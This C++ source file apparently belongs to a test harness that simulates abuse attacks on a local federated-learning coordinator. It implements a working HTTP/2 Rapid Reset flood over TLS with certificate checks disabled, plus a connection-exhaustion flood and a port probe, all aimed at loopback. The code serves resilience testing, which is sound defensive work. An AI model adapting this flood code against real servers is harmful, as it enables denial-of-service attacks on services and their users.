#include "simulation/abuse_attacks.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <pthread.h>
#include <sys/socket.h>
#include <unistd.h>

#include <csignal>
#include <cstring>
#include <memory>
#include <mutex>
#include <thread>

#include "absl/time/clock.h"

namespace fedmoe::simulation {
namespace {

constexpr uint8_t kFrameHeaders = 0x1;
constexpr uint8_t kFrameRstStream = 0x3;
constexpr uint8_t kFrameSettings = 0x4;
constexpr uint8_t kFrameGoaway = 0x7;
constexpr uint8_t kFlagEndHeaders = 0x4;
constexpr uint8_t kFlagAck = 0x1;
constexpr uint32_t kErrorCancel = 0x8;
constexpr uint32_t kAttackerAddress = 0x7F000002;  // 127.0.0.2
constexpr char kPreface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

void AppendFrameHeader(std::string& out, uint32_t length, uint8_t type, uint8_t flags,
                       uint32_t stream) {
  out.push_back(static_cast<char>((length >> 16) & 0xFF));
  out.push_back(static_cast<char>((length >> 8) & 0xFF));
  out.push_back(static_cast<char>(length & 0xFF));
  out.push_back(static_cast<char>(type));
  out.push_back(static_cast<char>(flags));
  for (int shift = 24; shift >= 0; shift -= 8) {
    out.push_back(static_cast<char>((stream >> shift) & 0xFF));
  }
}

// A header field without Huffman coding, "literal without indexing" with an indexed name
// (RFC 7541 §6.2.2), for names of the static table below 15.
void AppendLiteral(std::string& out, uint8_t name_index, const std::string& value) {
  out.push_back(static_cast<char>(name_index));
  out.push_back(static_cast<char>(value.size()));
  out += value;
}

// The HPACK block of a gRPC call's request headers; the dynamic table is never touched, so
// the same bytes serve every stream.
std::string RequestHeaderBlock(const std::string& path) {
  std::string block;
  block.push_back(static_cast<char>(0x83));  // :method POST
  block.push_back(static_cast<char>(0x87));  // :scheme https
  AppendLiteral(block, 0x04, path);          // :path
  AppendLiteral(block, 0x01, "localhost");   // :authority
  // content-type is static entry 31: a 4-bit prefix of 15, then 16.
  block.push_back(static_cast<char>(0x0F));
  block.push_back(static_cast<char>(0x10));
  block.push_back(static_cast<char>(16));
  block += "application/grpc";
  block.push_back(0x00);  // te: trailers, a new name
  block.push_back(0x02);
  block += "te";
  block.push_back(0x08);
  block += "trailers";
  return block;
}

// While alive, a write to a connection the server has closed fails with EPIPE on this thread
// instead of killing the process; a SIGPIPE raised meanwhile is consumed on the way out.
class ScopedSigpipeBlock {
 public:
  ScopedSigpipeBlock() {
    sigemptyset(&pipe_);
    sigaddset(&pipe_, SIGPIPE);
    pthread_sigmask(SIG_BLOCK, &pipe_, &previous_);
  }
  ~ScopedSigpipeBlock() {
    const timespec no_wait{};
    while (sigtimedwait(&pipe_, nullptr, &no_wait) == SIGPIPE) {
    }
    pthread_sigmask(SIG_SETMASK, &previous_, nullptr);
  }
  ScopedSigpipeBlock(const ScopedSigpipeBlock&) = delete;
  ScopedSigpipeBlock& operator=(const ScopedSigpipeBlock&) = delete;

 private:
  sigset_t pipe_;
  sigset_t previous_;
};

int ConnectLoopback(int port, absl::Duration timeout) {
  const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return -1;
  // From a loopback address of its own, so that the coordinator's per-peer limits tell the
  // attacker from the legitimate client (which dials from 127.0.0.1).
  sockaddr_in source{};
  source.sin_family = AF_INET;
  source.sin_addr.s_addr = htonl(kAttackerAddress);
  bind(fd, reinterpret_cast<sockaddr*>(&source), sizeof(source));
  timeval tv{};
  tv.tv_sec = static_cast<time_t>(absl::ToInt64Seconds(timeout));
  tv.tv_usec = static_cast<suseconds_t>(absl::ToInt64Microseconds(timeout) % 1'000'000);
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
  const int one = 1;
  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(static_cast<uint16_t>(port));
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (connect(fd, reinterpret_cast<sockaddr*>(&address), sizeof(address)) != 0) {
    close(fd);
    return -1;
  }
  return fd;
}

struct SslContextDeleter {
  void operator()(SSL_CTX* context) const { SSL_CTX_free(context); }
};
struct SslDeleter {
  void operator()(SSL* ssl) const { SSL_free(ssl); }
};

std::unique_ptr<SSL_CTX, SslContextDeleter> ClientContext() {
  std::unique_ptr<SSL_CTX, SslContextDeleter> context(SSL_CTX_new(TLS_client_method()));
  if (context == nullptr) return nullptr;
  // The attacker trusts anything: whom it talks to is not its concern.
  SSL_CTX_set_verify(context.get(), SSL_VERIFY_NONE, nullptr);
  static constexpr unsigned char kAlpn[] = {2, 'h', '2'};
  SSL_CTX_set_alpn_protos(context.get(), kAlpn, sizeof(kAlpn));
  return context;
}

// One attacking connection: TLS, the HTTP/2 preface, then pairs until the deadline.
class ResetConnection {
 public:
  ResetConnection(SSL_CTX* context, int port) {
    fd_ = ConnectLoopback(port, absl::Seconds(5));
    if (fd_ < 0) return;
    ssl_.reset(SSL_new(context));
    SSL_set_fd(ssl_.get(), fd_);
    if (SSL_connect(ssl_.get()) != 1) {
      ERR_clear_error();
      ssl_.reset();
      return;
    }
    fcntl(fd_, F_SETFL, fcntl(fd_, F_GETFL) | O_NONBLOCK);
    std::string opening(kPreface, sizeof(kPreface) - 1);
    AppendFrameHeader(opening, 0, kFrameSettings, 0, 0);
    open_ = Write(opening);
  }
  ~ResetConnection() {
    ssl_.reset();
    if (fd_ >= 0) close(fd_);
  }

  bool open() const { return open_; }
  bool goaway() const { return goaway_; }

  // Writes `pairs` HEADERS + RST_STREAM pairs; false once the connection is gone.
  bool SendPairs(const std::string& header_block, int pairs) {
    std::string batch;
    for (int i = 0; i < pairs && next_stream_ < 0x7FFFFFF0U; ++i, next_stream_ += 2) {
      AppendFrameHeader(batch, static_cast<uint32_t>(header_block.size()), kFrameHeaders,
                        kFlagEndHeaders, next_stream_);
      batch += header_block;
      AppendFrameHeader(batch, 4, kFrameRstStream, 0, next_stream_);
      for (int shift = 24; shift >= 0; shift -= 8) {
        batch.push_back(static_cast<char>((kErrorCancel >> shift) & 0xFF));
      }
    }
    return Write(batch) && Drain();
  }

 private:
  bool Write(const std::string& bytes) {
    size_t written = 0;
    while (open_ || written == 0) {
      const int n = SSL_write(ssl_.get(), bytes.data() + written,
                              static_cast<int>(std::min<size_t>(bytes.size() - written, 1 << 20)));
      if (n > 0) {
        written += static_cast<size_t>(n);
        if (written == bytes.size()) return true;
        continue;
      }
      const int error = SSL_get_error(ssl_.get(), n);
      ERR_clear_error();
      if (error != SSL_ERROR_WANT_WRITE && error != SSL_ERROR_WANT_READ) return open_ = false;
      // The server stopped reading: it pushes back, which is what it should do. Meanwhile its
      // frames (a GOAWAY, say) are read.
      if (!Drain()) return false;
      pollfd waiting{fd_, POLLOUT | POLLIN, 0};
      poll(&waiting, 1, 100);
    }
    return false;
  }

  // Reads what the server sent: SETTINGS are acknowledged, GOAWAY ends the connection.
  bool Drain() {
    char buffer[16384];
    for (;;) {
      const int n = SSL_read(ssl_.get(), buffer, sizeof(buffer));
      if (n <= 0) {
        const int error = SSL_get_error(ssl_.get(), n);
        ERR_clear_error();
        if (error == SSL_ERROR_WANT_READ || error == SSL_ERROR_WANT_WRITE) return open_;
        return open_ = false;
      }
      received_.append(buffer, static_cast<size_t>(n));
      std::string acknowledgements;
      while (received_.size() >= 9) {
        const auto* bytes = reinterpret_cast<const uint8_t*>(received_.data());
        const size_t length = (size_t{bytes[0]} << 16) | (size_t{bytes[1]} << 8) | bytes[2];
        if (received_.size() < 9 + length) break;
        if (bytes[3] == kFrameSettings && (bytes[4] & kFlagAck) == 0) {
          AppendFrameHeader(acknowledgements, 0, kFrameSettings, kFlagAck, 0);
        }
        if (bytes[3] == kFrameGoaway) goaway_ = true;
        received_.erase(0, 9 + length);
      }
      if (goaway_) return open_ = false;
      if (!acknowledgements.empty() && SSL_write(ssl_.get(), acknowledgements.data(),
                                                 static_cast<int>(acknowledgements.size())) <= 0) {
        ERR_clear_error();
      }
    }
  }

  int fd_ = -1;
  std::unique_ptr<SSL, SslDeleter> ssl_;
  bool open_ = false;
  bool goaway_ = false;
  uint32_t next_stream_ = 1;
  std::string received_;
};

}  // namespace

RapidResetReport RapidReset(int port, const std::string& path, int connections,
                            double pairs_per_second, absl::Duration duration,
                            const std::atomic<bool>* stop) {
  RapidResetReport report;
  std::mutex mutex;
  const std::string block = RequestHeaderBlock(path);
  const absl::Time started = absl::Now();
  const absl::Time deadline = started + duration;
  std::unique_ptr<SSL_CTX, SslContextDeleter> context = ClientContext();
  std::vector<std::thread> workers;
  for (int worker = 0; worker < connections; ++worker) {
    workers.emplace_back([&] {
      const ScopedSigpipeBlock no_sigpipe;
      RapidResetReport mine;
      while (absl::Now() < deadline && (stop == nullptr || !stop->load())) {
        ResetConnection connection(context.get(), port);
        if (!connection.open()) {
          ++mine.failed_connects;
          absl::SleepFor(absl::Milliseconds(50));
          continue;
        }
        ++mine.connections;
        while (absl::Now() < deadline && (stop == nullptr || !stop->load())) {
          constexpr int kBatch = 64;
          if (!connection.SendPairs(block, kBatch)) break;
          mine.pairs += kBatch;
          if (pairs_per_second > 0) {
            // Paced: this worker's share of the rate, measured from the start.
            const absl::Time due = started + absl::Seconds(static_cast<double>(mine.pairs) *
                                                           connections / pairs_per_second);
            if (due > absl::Now()) absl::SleepFor(due - absl::Now());
          }
        }
        if (connection.goaway()) {
          ++mine.goaways;
        } else if (!connection.open()) {
          ++mine.closed;
        }
      }
      std::lock_guard<std::mutex> lock(mutex);
      report.pairs += mine.pairs;
      report.connections += mine.connections;
      report.goaways += mine.goaways;
      report.closed += mine.closed;
      report.failed_connects += mine.failed_connects;
    });
  }
  for (std::thread& worker : workers) worker.join();
  report.seconds = absl::ToDoubleSeconds(absl::Now() - started);
  return report;
}

int ConnectionFlood::Open(int port, int count) {
  int opened = 0;
  for (int i = 0; i < count; ++i) {
    const int fd = ConnectLoopback(port, absl::Seconds(1));
    if (fd < 0) continue;
    fds_.push_back(fd);
    ++opened;
  }
  return opened;
}

int ConnectionFlood::ClosedByPeer() {
  int closed = 0;
  for (const int fd : fds_) {
    pollfd readable{fd, POLLIN, 0};
    if (poll(&readable, 1, 0) != 1) continue;
    char byte = 0;
    if (recv(fd, &byte, 1, MSG_DONTWAIT | MSG_PEEK) <= 0) ++closed;
  }
  return closed;
}

void ConnectionFlood::CloseAll() {
  for (const int fd : fds_) close(fd);
  fds_.clear();
}

bool TlsPortAnswers(int port, absl::Duration timeout) {
  const ScopedSigpipeBlock no_sigpipe;
  const int fd = ConnectLoopback(port, timeout);
  if (fd < 0) return false;
  std::unique_ptr<SSL_CTX, SslContextDeleter> context = ClientContext();
  std::unique_ptr<SSL, SslDeleter> ssl(SSL_new(context.get()));
  SSL_set_fd(ssl.get(), fd);
  // The handshake may fail (the mTLS port wants a certificate this probe does not have); what
  // matters is whether the server spoke: a timeout means nobody accepted the connection.
  const int result = SSL_connect(ssl.get());
  // A server that spoke TLS sent its certificate; a connection closed at once (refused by a
  // cap, shed for lack of descriptors) did not, though OpenSSL 3 reports its EOF as an error
  // of the protocol.
  const bool answered = SSL_get0_peer_certificate(ssl.get()) != nullptr;
  if (result == 1) {
    // Waits briefly for the server's verdict on this client's (absent) certificate, so that the
    // server finishes the handshake rather than seeing the connection reset under it.
    timeval brief{0, 200'000};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &brief, sizeof(brief));
    char byte = 0;
    SSL_read(ssl.get(), &byte, 1);
  }
  ERR_clear_error();
  ssl.reset();
  close(fd);
  return answered;
}

}  // namespace fedmoe::simulation
